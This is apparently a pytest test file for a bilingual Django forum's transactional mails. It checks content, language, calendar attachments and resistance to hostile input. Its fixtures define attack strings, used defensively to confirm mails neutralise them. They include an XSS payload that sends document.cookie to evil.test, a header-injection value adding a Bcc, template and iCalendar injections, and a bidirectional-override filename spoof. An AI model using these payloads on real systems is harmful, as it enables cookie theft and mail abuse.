"""Every mail that the product sends: complete, in both languages, and safe whoever typed what."""

import re
from datetime import date, timedelta
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from django.conf import settings
from django.core import mail
from django.core.cache import cache
from django.template.loader import render_to_string
from django.utils import translation
from icalendar import Calendar

from forum import clock, registry
from forum.mail import delivery, post
from forum.mail.templates import unlinked
from forum.mail.words import flaws, placeholders, source
from forum.models import Event, Link, Membership, Message, Person, TeamInvitation
from forum.models.event import Mode
from program.models import ReleaseNotice, Room, Session, SessionRole, Slot
from program.release import release
from program.seats import set_seats
from registration.models import (
    Approval,
    Category,
    Claim,
    Delegation,
    Invitation,
    ModePool,
    Organisation,
    Pool,
    Proof,
    Quota,
    Registration,
)
from speakers.models import ChangeRequest, CoSpeaker, Proposal, ProposalSpeaker, Speaker, Track

LANGUAGES = [code for code, _ in settings.LANGUAGES]
EVERY_KIND = sorted(registry.mails)
KINDS = [kind for kind in EVERY_KIND if not registry.mails[kind].is_bulk]
"""Those with a text of their own; what an organiser writes to many is in test_bulk.py."""
TO_STAFF = {"forum/digest", "forum/second_factor_reset", "registration/quota_empty"}
DOCUMENT = settings.BASE_DIR / "docs" / "mails.md"

CONTACT = "info@forum.example"
# From the list of hostile inputs, by its numbers.
T05 = "Anna \u202egnp.exe"
T06 = "Bob\r\nBcc: victim@example.org\r\n\r\nbody"
T09 = "Zoë Ø’Connor-Łukasiewicz 李小龙 محمد नरेन्द्र"
T11 = "\"><img src=x onerror=fetch('//evil.test/'+document.cookie)><script>alert(1)</script>"
T13 = '[Refund](https://evil.test) <a href="https://evil.test">now</a> https://evil.test **bold**'
T14 = "{code} {link} {registration.__class__} {{7*7}} {% debug %} {0.__class__}"
T27 = "Talk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil;X=1,2\\"
# To whom we may know nothing of: what somebody typed is not in them at all.
NAMELESS = {
    "forum/digest",
    "forum/second_factor_reset",
    "registration/address_left",
    "registration/erased",
}
HOSTILE = [T05, T06, T11, T13, T14, T27]


@pytest.fixture(autouse=True)
def _no_rest_for_the_server(request):
    if {"db", "event"} & set(request.fixturenames):
        request.getfixturevalue("db")
        cache.clear()


@pytest.fixture
def event(db):
    return Event.objects.create(
        slug="minsk-2021",
        state=Event.State.PUBLISHED,
        title_en="Smart sustainable cities & their people",
        title_ru="Умные устойчивые города",
        kind_en="International Forum",
        kind_ru="Международный форум",
        starts=date(2021, 3, 16),
        ends=date(2021, 3, 18),
        timezone="Europe/Minsk",
        city_en="Minsk",
        city_ru="Минск",
        venue_en="International Switching Centre",
        venue_ru="Международный центр коммутации",
        contact_email=CONTACT,
        languages=["en", "ru"],
        is_demonstration=True,
    )


def a_registration(event, *, name="Анна", language="en", state="confirmed", mode=Mode.ON_SITE):
    category, _ = Category.objects.get_or_create(
        event=event, code="other", defaults={"name_en": "Other", "name_ru": "Другое"}
    )
    ended = state in Registration.ENDED
    return Registration.objects.create(
        event=event,
        state=state,
        mode=mode,
        given_name=name,
        family_name="Иванова",
        contact_email="anna@example.org",
        country="BY",
        organisation_name=name,
        category=category,
        language=language,
        confirmed_at=clock.now() if state == "confirmed" else None,
        ended_at=clock.now() if ended else None,
    )


def a_place_in_a_proposal(event, *, name="Анна", title="Города", language="en"):
    track, _ = Track.objects.get_or_create(
        event=event, code="technical", defaults={"name_en": "Technical", "name_ru": "Технический"}
    )
    proposal = Proposal.objects.create(
        event=event,
        state=Proposal.State.SUBMITTED,
        track=track,
        title_en=title,
        title_ru=title,
        language=language,
        submitted_at=clock.now(),
    )
    speaker = Speaker.objects.create(
        event=event,
        given_name=name,
        family_name=name,
        email="anna@example.org",
        organisation_name=name,
        country="BY",
        language=language,
    )
    return ProposalSpeaker.objects.create(event=event, proposal=proposal, speaker=speaker)


def a_role(event, place, *, title):
    """Of a session in the released program."""
    session = Session.objects.create(event=event, title_en=title, title_ru=title)
    room = Room.objects.create(event=event, name_en=title, name_ru=title, capacity=9)
    Slot.objects.create(
        event=event,
        session=session,
        room=room,
        starts_at=event.starts_at,
        ends_at=event.starts_at + timedelta(hours=1),
    )
    release(event, by=None)
    return SessionRole.objects.create(event=event, session=session, speaker=place.speaker)


def a_seat(session, registration, *, waits):
    """Of a session with one, or a turn in its line."""
    set_seats(session, 1)
    return Claim.objects.create(
        event=session.event,
        pool=session.pool,
        registration=registration,
        state="waiting" if waits else "taken",
        number=1,
    )


def a_notice(event, kind, place, *, title):
    """Of a release in which the session's title is what somebody typed, and a room's name."""
    a_role(event, place, title=title)
    made = release(event, by=None)
    notice = ReleaseNotice.objects.get(release=made)
    if kind == "program/released":
        return notice
    registration = a_registration(event, name=title[:100], language=place.speaker.language)
    return made.notices.create(event=event, registration=registration, changes=notice.changes)


def a_row(event, kind, *, text="Анна", language="en"):
    """A row that the mail can be about, with ``text`` wherever a stranger may type."""
    if kind in TO_STAFF:
        return a_row_for_staff(event, kind, text)
    if kind.endswith("delegation"):
        return a_delegation(event, name=text[:100], language=language)
    if kind == "registration/registered_for_you":
        return a_delegation(event, name=text[:100], language=language).registrations.get()
    if "invitation" in kind:
        return an_invitation(event, kind, text=text, language=language)
    if kind.startswith("registration/"):
        state = {
            "registration/cancelled": "cancelled",
            "registration/declined": "declined",
            "registration/replaced": "cancelled",
        }
        registration = a_registration(
            event, name=text[:100], language=language, state=state.get(kind, "confirmed")
        )
        if kind == "registration/place_offered":
            offer_a_place(registration)
        if kind == "registration/declined":
            Approval.objects.create(
                event=event, registration=registration, step="declined", reason=text[:1000]
            )
        if kind == "registration/code":
            return Proof.objects.create(
                event=event,
                registration=registration,
                purpose=Proof.Purpose.DATA,
                address="anna@example.org",
            )
        return registration
    place = a_place_in_a_proposal(event, name=text[:100], title=text, language=language)
    if kind.startswith("program/seat_"):
        session = a_role(event, place, title=text).session
        registration = a_registration(event, name=text[:100], language=language)
        return a_seat(session, registration, waits=kind == "program/seat_waited")
    return about_the_talk(event, kind, place, text=text, language=language)


def an_invitation(event, kind, *, text, language):
    """To come, or to work."""
    if kind == "forum/team_invitation":
        return TeamInvitation.objects.create(
            event=event, email="anna@example.org", roles=["desk"], word=text, language=language
        )
    return Invitation.objects.create(
        event=event,
        given_name=text[:100],
        family_name=text[:100],
        email="anna@example.org",
        organisation_name=text[:100],
        language=language,
    )


def about_the_talk(event, kind, place, *, text, language):
    if kind.startswith("program/released"):
        return a_notice(event, kind, place, title=text)
    if kind.startswith("program/"):
        return a_role(event, place, title=text)
    if kind == "speakers/change_decided":
        return a_decided_change(event, place, text)
    if kind.startswith("speakers/co_speaker_"):
        return CoSpeaker.objects.create(
            event=event,
            proposal=place.proposal,
            given_name=text[:100],
            family_name=text[:100],
            email="boris@example.org",
            language=language,
        )
    return place


def a_decided_change(event, place, text):
    return ChangeRequest.objects.create(
        event=event,
        proposal=place.proposal,
        state="declined",
        changes={"title_en": ["", text]},
        answer=text[:1000],
        by=Person.objects.create_user("anna@example.org"),
        decided_at=clock.now(),
    )


def a_row_for_staff(event, kind, text):
    """Their mails are about the event or a quota, and name nobody."""
    if kind == "forum/second_factor_reset":
        member = Person.objects.create_user("anna@example.org")
        return Membership.objects.create(event=event, person=member, role="desk")
    if kind == "forum/digest":
        a_registration(event, name=text[:100], state="pending").ask_approval()
        organiser = Person.objects.create_user("anna@example.org")
        return Membership.objects.create(event=event, person=organiser, role="organiser")
    pool = Pool.objects.create(event=event, name="hosts", total=3)
    return Quota.objects.create(event=event, code="hosts", name_en=text, name_ru=text, pool=pool)


def a_delegation(event, *, name, language):
    organisation = Organisation.objects.create(event=event, name_en=name, name_ru=name)
    delegation = Delegation.objects.create(
        event=event,
        organisation=organisation,
        contact_name=name,
        contact_email="anna@example.org",
        language=language,
    )
    member = a_registration(event, name=name, language=language)
    Registration.objects.filter(pk=member.pk).update(delegation=delegation)
    return delegation


def offer_a_place(registration):
    pool = Pool.objects.create(event=registration.event, name="On site", total=1)
    Claim.objects.create(
        event=registration.event,
        pool=pool,
        registration=registration,
        state="offered",
        number=1,
        offer_ends_at=clock.now() + timedelta(hours=48),
    )


def sent(kind, row, language):
    """The mail as it reaches the server, parsed again from its bytes, and the row that is kept."""
    mail.outbox.clear()
    key = f"test:{kind}:{row.pk}"
    post(kind, about=row, to="anna@example.org", key=key, language=language)
    assert delivery.deliver_due() == 1
    message = message_from_bytes(mail.outbox[0].message().as_bytes(), policy=policy.default)
    return message, Message.objects.get(key=key)


def text_of(message):
    return message.get_body(("plain",)).get_content()


def html_of(message):
    return message.get_body(("html",)).get_content()


class Page(HTMLParser):
    """The elements of a mail's HTML, and where its links lead."""

    def __init__(self, markup):
        super().__init__()
        self.links, self.tags, self.actions, self.language = [], set(), 0, None
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        found = dict(attrs)
        self.tags.add(tag)
        self.links += [found[name] for name in ("href", "src", "action") if name in found]
        self.actions += found.get("class") == "action"
        if tag == "html":
            self.language = found.get("lang")
        assert not any(name.startswith("on") for name in found)


def every_mail(test):
    languages = pytest.mark.parametrize("language", LANGUAGES)
    return pytest.mark.parametrize("kind", KINDS)(languages(test))


def account_mails():
    files = settings.BASE_DIR.glob("templates/*/email/*_subject.txt")
    return sorted(f"{file.parent.parent.name}/email/{file.stem[:-8]}" for file in files)


# --- The document --------------------------------------------------------------------------


def rows_of_document():
    lines = DOCUMENT.read_text(encoding="utf-8").splitlines()
    rows = [line.strip("| ").split(" | ") for line in lines if line.startswith("| `")]
    return {row[0].strip("`"): row[1:] for row in rows}


def test_the_document_names_every_mail_with_its_trigger_subjects_and_action():
    documented = {kind: row for kind, row in rows_of_document().items() if "account/" not in kind}
    assert documented.keys() == registry.mails.keys()
    for kind, (trigger, english, russian, action) in documented.items():
        assert trigger == registry.mails[kind].trigger
        subjects = [source(kind, language)[0] or "—" for language in ("en", "ru")]
        assert [english, russian] == subjects, kind
        labels = re.findall(r"^\[(.+)\]\(", source(kind, "en")[1], re.MULTILINE)
        assert [action] == (labels or ["—"]), kind


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_document_names_every_mail_about_accounts_with_its_subject(language):
    rows = rows_of_document()
    documented = {kind: row for kind, row in rows.items() if kind.startswith("account/")}
    with translation.override(language):
        subjects = {
            f"account/{prefix.rpartition('/')[2]}": render_to_string(
                f"{prefix}_subject.txt", {"site_host": "{site_host}"}
            ).strip()
            for prefix in account_mails()
        }
    column = 1 + LANGUAGES.index(language)
    assert {kind: row[column] for kind, row in documented.items()} == subjects


# --- The templates -------------------------------------------------------------------------


@every_mail
def test_a_template_asks_for_nothing_that_its_letter_does_not_give(event, kind, language):
    with translation.override(language):
        letter = registry.mails[kind].compose(a_row(event, kind))
    used = placeholders(*source(kind, language))
    assert used <= letter.values.keys()
    assert "event" in used


@pytest.mark.parametrize("kind", EVERY_KIND)
def test_a_letter_gives_what_its_text_may_use_and_nothing_else(event, kind):
    """So that an organiser may write whichever placeholder the list names."""
    letter = registry.mails[kind].compose(a_row(event, kind))
    assert letter.values.keys() == set(registry.mails[kind].fields)
    assert letter.values.keys() <= registry.placeholders.keys()


@every_mail
def test_the_words_of_a_file_are_such_as_an_organiser_might_write(kind, language):
    words = "\n\n".join(source(kind, language))
    assert flaws(words, registry.mails[kind].fields) == []


@every_mail
def test_a_mail_has_one_action_at_most_and_it_stands_alone(kind, language):
    body = source(kind, language)[1]
    links = re.findall(r"\[[^\]]+\]\([^)]*\)", body)
    assert len(links) <= 1
    assert [part for part in body.split("\n\n") if "](" in part] == links


@pytest.mark.parametrize("language", LANGUAGES)
def test_no_two_mails_have_the_same_subject(language):
    subjects = {source(kind, language)[0] for kind in KINDS}
    assert len(subjects) == len(KINDS)
    # Not even when their values are left out, or only their first three words are read.
    assert len({" ".join(subject.split()[:6]) for subject in subjects}) == len(KINDS)


@pytest.mark.parametrize(
    ("language", "words"), [("en", "Action required: "), ("ru", "Требуется ваше действие: ")]
)
def test_only_what_must_be_answered_says_that_action_is_required(language, words):
    asking = {kind for kind in KINDS if source(kind, language)[0].startswith(words)}
    assert asking == {
        "registration/invitation",
        "registration/invitation_reminder",
        "forum/team_invitation",
        "registration/place_offered",
        "speakers/accepted",
        "speakers/co_speaker_asked",
        "speakers/not_confirmed",
    }


def test_the_templates_are_those_of_the_registered_mails():
    files = settings.BASE_DIR.glob("templates/*/mail/*.*.txt")
    found = {(f"{file.parent.parent.name}/{file.stem.split('.')[0]}", file.stem) for file in files}
    wanted = {(kind, f"{kind.split('/')[1]}.{code}") for kind in KINDS for code in LANGUAGES}
    assert found == wanted


# --- The mails as sent ---------------------------------------------------------------------


@every_mail
def test_a_mail_says_who_what_and_why_in_text_and_html(event, kind, language):
    row = a_row(event, kind, language=language)
    message, kept = sent(kind, row, language)
    page = Page(html_of(message))
    with translation.override(language):
        title = event.title
    for body in (text_of(message), html_of(message)):
        assert title.replace("&", "&amp;") in body or title in body
        assert CONTACT in body
        assert not re.search(r"\{[a-z_]+\}|%\(|None", body)
    assert "**" not in text_of(message), "its Markdown is for the HTML"
    assert page.language == language
    assert page.actions == len(re.findall(r"\]\(", source(kind, language)[1]))
    assert message["Content-Language"] == language
    assert message["Auto-Submitted"] == "auto-generated"
    assert message["Reply-To"] == CONTACT
    assert message["Message-ID"] == kept.message_id
    assert message["From"].addresses[0].display_name == " ".join(title.split())
    assert len(re.findall(r"emonstration|емонстрац", text_of(message))) == 1


@every_mail
@pytest.mark.parametrize("hostile", HOSTILE, ids=["T05", "T06", "T11", "T13", "T14", "T27"])
def test_what_a_stranger_typed_does_nothing_in_a_mail(event, kind, language, hostile):
    row = a_row(event, kind, text=hostile, language=language)
    message, _ = sent(kind, row, language)

    assert [len(message.get_all(name, [])) for name in ("To", "Subject", "From")] == [1, 1, 1]
    assert not message["Bcc"]
    assert not message["Cc"]
    assert message["To"] == "anna@example.org"
    assert mail.outbox[0].recipients() == ["anna@example.org"]
    assert "\n" not in message["Subject"]

    text, html = text_of(message), html_of(message)
    page = Page(html)
    ours = re.compile(rf"{re.escape(settings.SITE_URL)}/|mailto:{re.escape(CONTACT)}$|cid:picture$")
    assert all(ours.match(link) for link in page.links), page.links
    assert page.tags <= set(
        "html head meta title style body div h1 p ul li a br strong img".split()
    )
    for body in (message["Subject"], text, html):
        addresses = re.findall(r"(?i)[a-z+]+://[^\s\"<]+", body)
        assert all(address.startswith(f"{settings.SITE_URL}/") for address in addresses)
        assert not re.search(
            "[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f]", body.replace("\r", "")
        )
    for body in (text, html):  # no program makes links in a subject
        assert not re.search(r"evil\.test|victim@example", body)
    if hostile == T14 and kind not in NAMELESS:
        # Put in once: what looks like a placeholder in a value stays as it was typed.
        assert "{code} {link}" in text
        assert "{code} {link}" in html


@pytest.mark.parametrize("language", LANGUAGES)
def test_names_of_the_whole_world_arrive_as_they_were_typed(event, language):
    message, _ = sent("registration/registered", a_registration(event, name=T09), language)
    assert T09 in text_of(message)
    assert T09 in html_of(message)


@pytest.mark.parametrize("kind", KINDS)
def test_no_english_sentence_is_left_in_a_russian_mail(event, kind):
    row = a_row(event, kind, language="ru")
    message, _ = sent(kind, row, "ru")
    seen = re.sub(r"(?s)<style.*?</style>|<[^>]*>", " ", html_of(message))
    for words in (message["Subject"], text_of(message), seen):
        words = re.sub(rf"{re.escape(settings.SITE_URL)}\S*|\b[0-9A-Z]{{10}}\b", "", words)
        for value in (CONTACT, event.timezone, "QR"):
            words = words.replace(value, "")
        assert not re.findall(r"[A-Za-z]{2,}", words)


@pytest.mark.parametrize("kind", KINDS)
def test_no_russian_word_is_left_in_an_english_mail(event, kind):
    row = a_row(event, kind, text="Ada")
    Registration.objects.update(family_name="Lovelace")
    row.refresh_from_db()
    message, _ = sent(kind, row, "en")
    for words in (message["Subject"], text_of(message), html_of(message)):
        assert not re.findall(r"[А-Яа-яЁё]+", words)


def test_what_somebody_typed_still_reads_as_they_typed_it():
    for text in ("Node.js", "a@b.example", "С. М. Иванов, к.т.н.", "1:2.5", "Dr.Anna"):
        assert unlinked(text).replace("\u200b", "") == text


# --- What is kept, and what hangs on -------------------------------------------------------


@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind.startswith("registration/")])
def test_the_kept_copy_has_no_token(event, kind):
    row = a_row(event, kind)
    message, kept = sent(kind, row, "en")
    tokens = re.findall(r"\?key=([\w-]+)", text_of(message))
    assert tokens or kind in TO_STAFF or "{link}" not in source(kind, "en")[1]
    for token in tokens:
        assert Link.objects.opens(row, "manage", token)
        assert token not in kept.text + kept.html + kept.subject
    if tokens:
        assert "?key=…" in kept.text
        assert "?key=…" in kept.html
    is_last = registry.mails[kind].is_last
    assert kept.subject == message["Subject"].strip()
    assert bool(kept.to) != is_last


@pytest.mark.parametrize("hostile", ["Анна", *HOSTILE])
@pytest.mark.parametrize("kind", [kind for kind in KINDS if kind.startswith("registration/")])
def test_a_calendar_file_is_one_appointment_that_calendars_take(event, kind, hostile):
    event.title_en = hostile
    event.venue_en = hostile
    event.save()
    message, _ = sent(kind, a_row(event, kind, text=hostile), "en")
    files = [file for file in message.iter_attachments() if file.get_content_maintype() == "text"]
    coming = {"registered", "confirmed", "place_taken", "switched", "reminder", "cancelled"}
    coming |= {"replaced"}
    assert len(files) == (kind.split("/")[1] in coming)
    for file in files:
        ended = {"registration/cancelled", "registration/replaced"}
        method = "CANCEL" if kind in ended else "PUBLISH"
        assert file.get_content_type() == "text/calendar"
        assert file.get_param("method") == method
        assert file.get_param("charset") == "utf-8"
        assert file["Content-Type"].count("charset") == 1
        assert file.get_filename() == "minsk-2021.ics"
        calendar = Calendar.from_ical(file.get_payload(decode=True))
        assert calendar["METHOD"] == method
        [entry] = calendar.walk("VEVENT")
        assert entry["UID"].endswith("@minsk-2021")
        assert entry["SEQUENCE"] > 0
        assert entry["DTSTART"].dt == event.starts_at
        assert entry["STATUS"] == ("CANCELLED" if method == "CANCEL" else "CONFIRMED")


@pytest.mark.parametrize("language", LANGUAGES)
def test_who_waits_is_told_their_turn(event, language):
    registration = a_registration(event, state="waiting", language=language)
    pool = Pool.objects.create(event=event, name="hall", total=0)
    ModePool.objects.create(event=event, mode=Mode.ON_SITE, pool=pool)
    Claim.objects.create(
        event=event, pool=pool, registration=registration, state="waiting", number=1
    )
    message, _ = sent("registration/registered", registration, language)
    assert re.search(r"\b1\b", text_of(message))
    assert not [*message.iter_attachments()]


def test_who_has_a_place_on_site_gets_the_code_that_the_desk_scans(event):
    message, _ = sent("registration/confirmed", a_registration(event), "en")
    [picture] = [part for part in message.walk() if part.get_content_type() == "image/png"]
    assert picture["Content-ID"] == "<picture>"
    assert picture.get_content().startswith(b"\x89PNG")
    assert 'src="cid:picture"' in html_of(message)
    assert "desk" in text_of(message)


def test_who_takes_part_online_is_told_their_way_in_and_gets_no_code(event):
    message, _ = sent("registration/confirmed", a_registration(event, mode=Mode.ONLINE), "en")
    assert not [part for part in message.walk() if part.get_content_type() == "image/png"]
    assert "Your own page is your way in" in text_of(message)
    [file] = message.iter_attachments()
    [entry] = Calendar.from_ical(file.get_payload(decode=True)).walk("VEVENT")
    assert entry["LOCATION"].startswith(f"{settings.SITE_URL}/minsk-2021/registrations/")


# --- Mails about accounts ------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("prefix", account_mails())
def test_a_mail_about_an_account_names_the_site_and_stays_in_its_language(prefix, language):
    values = {
        "code": "XYZ-123",
        "password_reset_url": f"{settings.SITE_URL}/a/",
        "signup_url": f"{settings.SITE_URL}/b/",
        "from_email": "a@example.org",
        "to_email": "b@example.org",
        "deleted_email": "c@example.org",
        "ip": "192.0.2.1",
        "user_agent": "https://evil.test",
        "timestamp": clock.real_now(),
    }
    with translation.override(language):
        context = {"site_host": "forum.example", **values}
        subject = render_to_string(f"{prefix}_subject.txt", context).strip()
        text = render_to_string(f"{prefix}_message.txt", context)
    assert "forum.example" in subject
    assert "forum.example" in text
    assert "\n" not in subject
    assert "XYZ" not in subject, "the kept copy shows the subject"
    assert "evil" not in text
    words = subject + text
    for value in ("forum.example", "UTC", *map(str, values.values())):
        words = words.replace(value, "")
    foreign = r"[A-Za-z]{2,}" if language == "ru" else r"[А-Яа-яЁё]+"
    assert not re.findall(foreign, words)
    assert "{" not in words
    assert "&" not in words


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_subjects_about_accounts_differ(language):
    with translation.override(language):
        subjects = [render_to_string(f"{prefix}_subject.txt", {}) for prefix in account_mails()]
    assert len(set(subjects)) == len(subjects)
